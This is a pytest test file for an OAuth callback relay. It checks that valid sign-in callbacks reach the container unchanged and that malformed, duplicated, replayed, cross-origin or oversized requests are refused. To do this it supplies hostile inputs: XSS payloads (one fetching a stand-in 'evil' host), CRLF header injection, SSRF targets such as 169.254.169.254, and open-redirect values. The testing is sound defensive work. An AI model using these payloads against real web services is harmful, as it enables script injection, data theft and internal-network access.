"""Callbacks: which are accepted, which are refused, and what reaches the container (rows P17 to P47)."""

from __future__ import annotations

import threading
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ccapi.errors import LoginRefused
from ccapi.oauth import query, relay
from tests.cli.support import free_port
from tests.oauth.support import (
    CODE,
    MARKER,
    Login,
    Running,
    assert_closed,
    assert_page,
    assert_refused,
    get,
    kept_open,
    new_state,
    raw,
)

pytestmark = pytest.mark.usefixtures("clean_log")

XSS = [
    f"<script>alert('{MARKER}')</script>",
    f"\"><img src=x onerror=fetch('https://evil/{MARKER}')>",
    f"javascript:alert(`{MARKER}`)",
    f"</title><svg/onload={MARKER}>",
    f"{{{{{MARKER}}}}}${{{MARKER}}}",
    f"%3Cscript%3E{MARKER}%3C/script%3E",
    f"%253Cscript%253E{MARKER}",
    f"%0d%0aSet-Cookie:%20x={MARKER}%0d%0a%0d%0a<b>",
    f"&#60;script&#62;{MARKER}",
    f"%u003cscript%u003e{MARKER}",
    f"+ADw-script+AD4-{MARKER}",
]


def raw_target(text: str) -> str:
    """As a sloppy client would put it on the wire: only what would end the target is encoded."""
    return text.replace(" ", "%20").replace("#", "%23")


# --- what is accepted


def test_a_right_callback_is_delivered_once_and_byte_for_byte(login: Login) -> None:
    """P17: order and encoding are kept, the page says success."""
    sent = f"code={CODE}&state={login.state}&iss=https%3A%2F%2Fas.example&scope=a%20b&x=%c3%A9+%2B&empty=&flag&&t=1;2"
    assert_page(login.answer(f"/callback?{sent}"), 200, "Sign-in received")
    target = {"host": "localhost", "port": login.port, "path": "/callback"}
    assert login.running.gateway.callbacks == [{**target, "query": sent}]
    assert login.status == "delivered"


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "[::1]"])
def test_all_names_of_this_machine_lead_to_it(proxy: Running, host: str, address: str) -> None:
    """Whatever the redirect URI says, and whatever `localhost` means to the browser; the target is as written."""
    login = proxy.login(host=host)
    request = get(login.target, f"Host: {host}:{login.port}")
    assert_page(raw(login.port, request, address), 200, "Sign-in received")
    assert proxy.gateway.callbacks[0]["host"] == host


def test_a_real_redirect_is_accepted(login: Login) -> None:
    """P44: what a browser sends that comes from the authorization server."""
    headers = ["Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document"]
    headers += ["Sec-Fetch-User: ?1", "Upgrade-Insecure-Requests: 1", "Referer: https://as.example/", "Cookie: a=b"]
    assert_page(login.answer(None, *headers), 200, "Sign-in received")


def test_the_cookies_of_other_servers_are_no_obstacle(login: Login) -> None:
    """All that ever ran on localhost share them, and a browser sends them all."""
    cookies = "; ".join(f"c{number}={MARKER}{'x' * 1000}" for number in range(40))
    assert_page(login.answer(None, f"Cookie: {cookies}"), 200, "Sign-in received")


def test_the_documented_check(proxy: Running) -> None:
    """P20a: the page says that the proxy works and that nothing was forwarded; nothing is."""
    response = proxy.get("/oauth/callback?code=test123&state=test-session")
    assert_page(response, 200, "The OAuth proxy works")
    assert "nothing was forwarded" in response.text
    assert proxy.gateway.callbacks == []


def test_the_check_is_that_of_the_own_port_only(login: Login) -> None:
    """Elsewhere it is an unknown state."""
    assert_page(login.answer("/callback?code=test123&state=test-session"), 400, "Unknown sign-in")


def test_a_denial_is_delivered_and_the_page_says_no_more(login: Login) -> None:
    """P29, P32: the container gets all of it, the page repeats nothing, links nothing."""
    sent = f"error=access_denied&error_description={MARKER}&error_uri=https://evil.example/{MARKER}&state={login.state}"
    assert_page(login.answer(f"/callback?{sent}"), 200, "Sign-in was not completed")
    assert [one["query"] for one in login.running.gateway.callbacks] == [sent]
    assert login.status == "denied"


def test_a_code_of_four_kibibytes(login: Login) -> None:
    """P37, first half: it is delivered whole."""
    sent = f"code={'x' * 4096}&state={login.state}"
    assert_page(login.answer(f"/callback?{sent}"), 200, "Sign-in received")
    assert login.running.gateway.callbacks[0]["query"] == sent


@pytest.mark.parametrize("length", [query.LONGEST + 1, 12_000, 16_000, 20_000, 100_000])
def test_a_query_that_is_too_long(login: Login, length: int) -> None:
    """P37, second half: a fixed page, nothing of it repeated."""
    response = login.answer(f"{login.target}&x={MARKER * (length // len(MARKER))}")
    assert response.status_code in {400, 414}
    assert_refused(response)
    login.still_completes()


def test_a_query_as_long_as_it_may_be(login: Login) -> None:
    """The limit is a limit, not one less."""
    sent = f"{login.query}&x=".ljust(query.LONGEST, "x")
    assert_page(login.answer(f"/callback?{sent}"), 200, "Sign-in received")


@pytest.mark.parametrize(
    "extra",
    [
        "callback_port=22",
        "callback_host=169.254.169.254",
        "target=http://169.254.169.254/",
        "container=evil",
        "port=22&path=/admin&host=evil",
        "redirect=//evil.example",
        "next=https://evil.example",
        "rd=/%5Cevil.example",
        "return_to=javascript:alert(1)",
        "continue=%2F%2Fevil.example",
        "url=https:evil.example",
    ],
)
def test_other_parameters_mean_nothing(login: Login, extra: str) -> None:
    """P34, P35: delivered as they are to the registered target; no redirect."""
    assert_page(login.answer(f"{login.target}&{extra}"), 200, "Sign-in received")
    (callback,) = login.running.gateway.callbacks
    assert callback == {
        "host": "localhost",
        "port": login.port,
        "path": "/callback",
        "query": f"{login.query}&{extra}",
    }


# --- what is refused


@pytest.mark.parametrize(
    "sent",
    [
        pytest.param(f"code={CODE}&state=UNKNOWN-{MARKER}", id="P18 unknown state"),
        pytest.param(f"code={CODE}", id="P19 no state"),
        pytest.param(f"code={CODE}&state=", id="P20 empty state"),
        pytest.param(f"code={CODE}&state", id="P20 state without a value"),
        pytest.param("", id="no query"),
        pytest.param(f"error=access_denied&state=UNKNOWN-{MARKER}", id="P30 error with unknown state"),
        pytest.param(f"code={CODE}&state={{state}}x", id="a state that begins like a known one"),
        pytest.param(f"code={CODE}&state={{start}}", id="the beginning of a known state"),
        pytest.param(f"code={CODE}&state=%00{{state}}", id="a known state behind a zero byte"),
        pytest.param(f"code={CODE}&State={{state}}", id="a state in capitals is none"),
        pytest.param(f"code={CODE}&state={{state}}&state={{state}}", id="P21 state twice"),
        pytest.param(f"code={CODE}&state=x&state={{state}}", id="P21 state twice, the last is good"),
        pytest.param(f"code={CODE}&state={{state}}&state=x", id="P21 state twice, the first is good"),
        pytest.param(f"code={CODE}&state={{state}}&%73tate=x", id="P21 state twice, once encoded"),
        pytest.param(f"code={CODE}&state={{state}}&st%61te", id="P21 state twice, once without a value"),
        pytest.param(f"code={CODE}&code={CODE}&state={{state}}", id="P21 code twice"),
        pytest.param(f"code={CODE}&state={{state}}&iss=a&iss=b", id="P21 iss twice"),
        pytest.param("error=a&error=b&state={state}", id="P21 error twice"),
        pytest.param(f"code={CODE}&state[]={{state}}", id="P21 state[]"),
        pytest.param(f"code={CODE}&state={{state}}&state[]=x", id="P21 state and state[]"),
        pytest.param(f"code={CODE}&state={{state}}&state%5B0%5D=x", id="P21 state[0], encoded"),
        pytest.param(f"code[]={CODE}&state={{state}}", id="P21 code[]"),
        pytest.param(f"code={CODE}&code[a]=x&state={{state}}", id="P21 code[a]"),
        pytest.param(f"code={CODE}&state={{state}}&iss[]=x", id="P21 iss[]"),
        pytest.param("error[]=x&state={state}", id="P21 error[]"),
        pytest.param(f"code={CODE}&state={{state}}&+state=x", id="P21 state behind a space"),
        pytest.param(f"code={CODE}&error=access_denied&state={{state}}", id="P27 code and error"),
        pytest.param(f"code={CODE}&error=&state={{state}}", id="P27 code and an empty error"),
        pytest.param("code=&error=access_denied&state={state}", id="P27 an empty code and an error"),
        pytest.param("state={state}", id="neither code nor error"),
        pytest.param("code=&state={state}", id="an empty code"),
        pytest.param("error=&state={state}", id="an empty error"),
        pytest.param(f"code={CODE}&state={{state}}#fragment", id="a fragment"),
        pytest.param(f"code={CODE}&state={{state}}&x=é", id="no ASCII"),
        pytest.param(f"code={CODE}&state={{state}}&x=\x7f", id="a control character"),
    ],
)
def test_what_is_refused(login: Login, sent: str) -> None:
    """A fixed 4xx page; nothing reaches the container; the login still completes."""
    response = login.answer("/callback?" + sent.format(state=login.state, start=login.state[:-1]))
    assert_refused(response)
    assert login.running.gateway.callbacks == []
    login.still_completes()


def test_no_question_mark_at_all(login: Login) -> None:
    """Somebody looks at the port."""
    assert_refused(login.answer("/callback"))
    login.still_completes()


def test_a_state_on_the_port_of_another_login(proxy: Running) -> None:
    """P23: refused there, and it completes on its own."""
    one, other = proxy.login(), proxy.login()
    assert_page(other.answer(one.target), 400, "Unknown sign-in")
    assert_page(one.answer(other.target), 400, "Unknown sign-in")
    assert_page(proxy.get(f"/oauth/callback?{one.query}"), 400, "Unknown sign-in")
    assert proxy.gateway.callbacks == []
    other.still_completes()
    one.still_completes()


@pytest.mark.parametrize(
    "path",
    [
        *("/", "/callback/", "/Callback", "//callback", "/callback/..", "/x/../callback", "/%63allback", "/callback;x"),
        *("/favicon.ico", "/robots.txt", "/.well-known/oauth-authorization-server", "/health", "/oauth/callback"),
        *("/oauth/register", "/oauth/sessions", "/callback%3F", f"/{MARKER}", "/callback%00", "/status", "/metrics"),
    ],
)
def test_only_the_logins_own_path_is_there(login: Login, path: str) -> None:
    """P47 on a redirect port: 404, whatever the query."""
    response = login.answer(f"{path}?{login.query}")
    assert_page(response, 404, "Nothing is here")
    login.still_completes()


@pytest.mark.parametrize(
    "path",
    [
        *("/favicon.ico", "/robots.txt", "/.well-known/oauth-protected-resource", "/callback", "/oauth", "/oauth/"),
        *("/status", "/metrics", "/oauth/callback/", "/OAuth/callback", "/docs", f"/{MARKER}", "/oauth/registers"),
    ],
)
def test_an_unknown_path_on_the_own_port(proxy: Running, path: str) -> None:
    """P47, P81: 404, a fixed page."""
    assert_page(proxy.get(f"{path}?code={CODE}&state=x"), 404, "Nothing is here")


@pytest.mark.parametrize("method", ["HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "X"])
def test_no_other_method(login: Login, method: str) -> None:
    """P39, P40: refused, nothing is consumed, no permission for other pages."""
    response = raw(login.port, get(login.target, f"Host: localhost:{login.port}", method=method))
    assert response.status_code in {400, 405}
    assert_refused(response)
    if response.status_code == 405:
        assert response.headers["Allow"] == "GET"
    login.still_completes()


@pytest.mark.parametrize("method", ["HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
@pytest.mark.parametrize("path", ["/", "/health", "/oauth/callback?code=test123&state=test-session"])
def test_no_other_method_on_the_own_port(proxy: Running, method: str, path: str) -> None:
    """HEAD is not GET in disguise."""
    response = raw(proxy.port, get(path, f"Host: localhost:{proxy.port}", method=method))
    assert response.status_code == 405
    assert_refused(response)


def test_a_visit_with_a_body(login: Login) -> None:
    """P40: a form that was made to look like a visit."""
    response = raw(
        login.port, get(login.target, f"Host: localhost:{login.port}", "Content-Length: 3", method="GET") + b"a=b"
    )
    assert_refused(response)
    login.still_completes()


@pytest.mark.parametrize(
    "origin", ["https://evil.example", "null", "https://as.example", "http://localhost:{port}", ""]
)
def test_any_origin(login: Login, origin: str) -> None:
    """P43: a plain visit has none, not even the own."""
    response = login.answer(None, f"Origin: {origin.format(port=login.port)}")
    assert_page(response, 403)
    login.still_completes()


@pytest.mark.parametrize(
    "header",
    [
        *("Sec-Fetch-Mode: no-cors", "Sec-Fetch-Mode: cors", "Sec-Fetch-Mode: websocket", "Sec-Fetch-Mode: nested-x"),
        *("Sec-Fetch-Dest: iframe", "Sec-Fetch-Dest: frame", "Sec-Fetch-Dest: image", "Sec-Fetch-Dest: empty"),
        *("Sec-Fetch-Dest: object", "Sec-Fetch-Dest: embed", "Sec-Fetch-Dest: script"),
    ],
)
def test_what_a_page_makes_a_browser_fetch(login: Login, header: str) -> None:
    """P45: embedded, or fetched by a script, an image, a frame."""
    assert_page(login.answer(None, header), 403)
    login.still_completes()


@pytest.mark.parametrize("text", XSS)
def test_nothing_that_is_sent_is_shown(proxy: Running, text: str) -> None:
    """P31: in every parameter, name and path, and whatever comes of it."""
    text = raw_target(text)
    for parameters in (
        f"code={text}&state={{state}}",
        f"code=c&state={{state}}&{text}=x",
        f"code=c&state={{state}}&iss={text}&scope={text}",
        f"error={text}&error_description={text}&error_uri={text}&state={{state}}",
        f"code=c&state={text}",
        text,
    ):
        login = proxy.login()
        response = login.answer("/callback?" + parameters.replace("{state}", login.state))
        assert_page(response, response.status_code)
        proxy.call("DELETE", f"/oauth/sessions/{login.state}")
    assert_refused(proxy.get(f"/{text}"))
    assert_refused(proxy.get(f"/oauth/callback?{text}"))


# --- once


def test_the_same_callback_again(login: Login) -> None:
    """P25: refused, while the listener is still there and after."""
    with kept_open(login):
        assert_page(login.answer(), 200)
        assert_page(login.answer(), 410, "This sign-in was already received")
    assert len(login.running.gateway.callbacks) == 1


def test_the_port_is_kept_for_a_moment(login: Login) -> None:
    """P25: so that the same callback again can be told that it is the second."""
    began = time.monotonic()
    assert_page(login.answer(), 200)
    assert_closed(login.port)
    assert time.monotonic() - began > relay.LINGER


def test_the_same_callback_again_on_the_own_port(proxy: Running) -> None:
    """The own port stays open: also later."""
    state, port = new_state(), free_port()
    assert proxy.register(session_id=state, callback_port=port).status_code == 201
    target = f"/oauth/callback?code={CODE}&state={state}"
    assert_page(proxy.get(target), 200)
    assert_closed(port)
    assert_page(proxy.get(target), 410, "This sign-in was already received")
    assert len(proxy.gateway.callbacks) == 1


def test_fifty_at_once(login: Login) -> None:
    """P26: one is delivered."""
    together = threading.Barrier(50)

    def answer(_: int) -> httpx.Response:
        together.wait(30)
        return login.answer()

    with kept_open(login), ThreadPoolExecutor(50) as pool:
        responses = list(pool.map(answer, range(50)))
    assert sorted(response.status_code for response in responses) == [200, *[410] * 49]
    for response in responses:
        assert_page(response, response.status_code)
    assert len(login.running.gateway.callbacks) == 1


def test_guesses_are_limited_and_do_not_harm_the_right_one(proxy: Running) -> None:
    """A port that is asked for many unknown states answers 429; the right one is delivered all the same."""
    login, other = proxy.login(), proxy.login()
    guesses = [login.answer(f"/callback?code={CODE}&state=guess-{number}").status_code for number in range(40)]
    assert guesses == [400] * 20 + [429] * 20
    assert_page(login.answer("/callback?nothing"), 429, "Too many attempts")
    assert_page(other.answer(f"/callback?code={CODE}&state=guess"), 400)  # each port has a limit of its own
    login.still_completes()
    other.still_completes()


# --- anything that is accepted arrives as it was sent

VISIBLE = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E, exclude_characters="#&"), max_size=20)
PARAMETER = st.one_of(
    VISIBLE,
    st.builds("{}={}".format, VISIBLE, VISIBLE),
    st.sampled_from(
        ["state=x", "iss=https%3A%2F%2Fas", "code=1", "error=e", "state%5b%5d=1", "scope=a+b", "%", "=", ""]
    ),
)


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(PARAMETER, max_size=5), st.sampled_from([f"code={CODE}", "error=access_denied"]), st.randoms())
@example(["a=%zz", "%00=%0d%0a", "b=\\", "c='\"`{|}^"], f"code={CODE}", None)
def test_what_is_accepted_arrives_as_it_was_sent(shared: Running, extra: list[str], answer: str, random: Any) -> None:
    """Whatever else is in the query: it is refused and nothing arrives, or it arrives byte for byte."""
    state, port = new_state(), free_port()
    parts = [*extra, answer, f"state={state}"]
    if random is not None:
        random.shuffle(parts)
    sent = "&".join(parts)
    assert shared.register(session_id=state, callback_port=port).status_code == 201
    shared.gateway.callbacks.clear()
    response = shared.get(f"/oauth/callback?{sent}")
    arrived = [one["query"] for one in shared.gateway.callbacks]
    try:
        query.read(sent)
    except LoginRefused:
        assert response.status_code in {400, 429}
        assert arrived == []
    else:
        assert response.status_code == 200
        assert arrived == [sent]
    shared.call("DELETE", f"/oauth/sessions/{state}")
